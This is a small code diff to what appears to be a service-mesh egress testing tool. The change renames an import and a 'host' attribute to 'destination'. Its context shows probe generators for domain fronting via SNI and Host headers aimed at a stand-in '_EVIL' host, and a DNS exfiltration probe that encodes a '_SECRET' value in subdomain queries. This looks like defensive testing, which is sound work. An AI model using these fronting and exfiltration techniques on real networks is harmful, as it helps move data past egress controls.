@@ -6,7 +6,7 @@ import base64
 from collections.abc import Callable
 from typing import Any
 
-from configuration.applications import Egress
+from configuration.leaving.egress import Egress
 from manifests.mesh_graph import Member
 from meshops.attack import http, judging
 from meshops.attack.entry import attempt
@@ -88,7 +88,7 @@ def _fronted(*, to: str = "", sni: str = "", host: str = _EVIL, path: str = "/")
         declared = declared_host(member) if member else None
         if member is None or declared is None:
             return []
-        name = declared.host.replace("*", "meshops-attack")
+        name = declared.destination.replace("*", "meshops-attack")
         text = http.request(host or name, path)
         return [raw(place_of(member), to or name, declared.port, text, tls={"sni": sni or name},
                     said=f"SNI {sni or name}, Host {host or name}")]  # fmt: skip
@@ -101,7 +101,7 @@ def _behind_originated(ground: Ground) -> list[Shot]:
     for member in ground.stack.members:
         for declared in member.application.egress:
             if declared.originate and member.application.workload == "managed":
-                place, name = place_of(member), declared.host.replace("*", "meshops-attack")
+                place, name = place_of(member), declared.destination.replace("*", "meshops-attack")
                 texts = (
                     http.request(_EVIL),
                     http.request(name, f"http://{_EVIL}/"),
@@ -121,7 +121,7 @@ def _others_host(ground: Ground) -> list[Shot]:
     declared = declared_host(owner) if owner else None
     if owner is None or declared is None:
         return []
-    name = declared.host.replace("*", "meshops-attack")
+    name = declared.destination.replace("*", "meshops-attack")
     others = [
         member
         for member in ground.stack.members
@@ -156,7 +156,7 @@ def _below_declared(ground: Ground) -> list[Shot]:
     declared = declared_host(member) if member else None
     if member is None or declared is None or not ground.dns_service:
         return []
-    return [_asked(ground, member, f"{_SECRET}.{declared.host}", kind, tcp=False) for kind in (1, 16)]
+    return [_asked(ground, member, f"{_SECRET}.{declared.destination}", kind, tcp=False) for kind in (1, 16)]
 
 
 def _tunnel(kind: int, *, tcp: bool = False) -> Callable[[Ground], list[Shot]]:
